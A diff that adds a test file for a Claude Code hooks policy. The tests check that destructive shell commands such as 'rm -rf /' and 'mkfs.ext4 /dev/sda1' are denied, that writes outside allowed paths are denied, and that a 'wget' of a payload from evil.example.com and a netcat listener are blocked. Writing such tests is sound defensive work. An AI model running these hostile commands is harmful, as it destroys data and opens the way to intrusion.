@@ -0,0 +1,88 @@
+import { test, expect } from "bun:test";
+import { HooksController } from "../hooks";
+import type { PreToolUseEvent } from "../hooks/types";
+import { createToolPolicy } from "./policy";
+
+const cwd = "/work/project";
+
+function call(tool_name: string, tool_input: Record<string, unknown>): PreToolUseEvent {
+  return { session_id: "s1", tool_name, tool_input, hook_event_name: "PreToolUse" };
+}
+
+test("default deny-list blocks destructive Bash commands", async () => {
+  const policy = createToolPolicy({}, { cwd });
+
+  for (const command of ["rm -rf /", "sudo rm -fr ~", "git push origin main --force", "git push -f", "mkfs.ext4 /dev/sda1"]) {
+    const verdict = await policy(call("Bash", { command }));
+    expect([command, verdict.decision, verdict.rule]).toEqual([command, "deny", "deny-bash"]);
+  }
+  for (const command of ["rm -rf /tmp/build", "git push --force-with-lease", "bun test"]) {
+    expect((await policy(call("Bash", { command }))).decision).toBe("allow");
+  }
+});
+
+test("write allow-list accepts directories and globs relative to the cwd", async () => {
+  const policy = createToolPolicy({ writePaths: ["src", "docs/*.md"] }, { cwd });
+
+  expect((await policy(call("Write", { file_path: "/work/project/src/a/b.ts" }))).decision).toBe("allow");
+  expect((await policy(call("Edit", { file_path: "docs/README.md" }))).decision).toBe("allow");
+  expect((await policy(call("Read", { file_path: "/etc/passwd" }))).decision).toBe("allow");
+
+  const outside = await policy(call("Edit", { file_path: "/work/project/../other/src/x.ts" }));
+  expect(outside).toMatchObject({ decision: "deny", rule: "write-paths" });
+  expect((await policy(call("Write", { file_path: "package.json" }))).reason).toContain("package.json");
+});
+
+test("network restrictions check hosts of commands and WebFetch", async () => {
+  const policy = createToolPolicy({ allowHosts: ["github.com"] }, { cwd });
+
+  expect((await policy(call("Bash", { command: "curl -sL https://api.github.com/repos" }))).decision).toBe("allow");
+  expect((await policy(call("Bash", { command: "curl http://localhost:3000/api" }))).decision).toBe("allow");
+  expect((await policy(call("Bash", { command: "ssh git@github.com" }))).decision).toBe("allow");
+  expect((await policy(call("WebFetch", { url: "https://github.com/x" }))).decision).toBe("allow");
+
+  expect(await policy(call("Bash", { command: "cd x && FOO=1 wget evil.example.com/payload" }))).toMatchObject({
+    decision: "deny",
+    reason: "Host not in allow-list: evil.example.com",
+  });
+  expect((await policy(call("Bash", { command: "nc -l 4444" }))).decision).toBe("deny");
+  expect((await policy(call("WebFetch", { url: "https://example.org" }))).decision).toBe("deny");
+});
+
+test("controller returns deny decisions to Claude Code and records them", async () => {
+  const verdicts: string[] = [];
+  const controller = new HooksController({ onPolicyVerdict: (_event, verdict) => verdicts.push(verdict.decision) });
+  controller.setToolPolicy(createToolPolicy({
+    rules: [{
+      name: "pin-registry",
+      check: ({ toolName, input }) => toolName === "Bash" && input.command === "npm install"
+        ? { decision: "allow", reason: "use the mirror", updatedInput: { command: "npm install --registry http://localhost:4873" } }
+        : null,
+    }],
+  }, { cwd }));
+  controller.start("task");
+
+  const denied = await controller.onPreToolUse(call("Bash", { command: "rm -rf /" }));
+  expect(denied.hookSpecificOutput).toMatchObject({ permissionDecision: "deny" });
+  expect(controller.getStats().toolsBlocked).toBe(1);
+  expect(controller.getToolHistory()[0]?.error).toStartWith("Blocked by policy:");
+
+  // Plain allows defer to the normal permission flow
+  expect(await controller.onPreToolUse(call("Bash", { command: "ls" }))).toEqual({ continue: true });
+
+  const rewritten = await controller.onPreToolUse(call("Bash", { command: "npm install" }));
+  expect(rewritten.hookSpecificOutput).toMatchObject({
+    permissionDecision: "allow",
+    updatedInput: { command: "npm install --registry http://localhost:4873" },
+  });
+
+  await controller.onTool({
+    session_id: "s1",
+    tool_name: "Bash",
+    tool_input: { command: "npm install --registry http://localhost:4873" },
+    tool_response: { output: "ok" },
+    hook_event_name: "PostToolUse",
+  });
+  expect(controller.getToolHistory()[1]?.verdict?.rule).toBe("pin-registry");
+  expect(verdicts).toEqual(["deny", "allow", "allow"]);
+});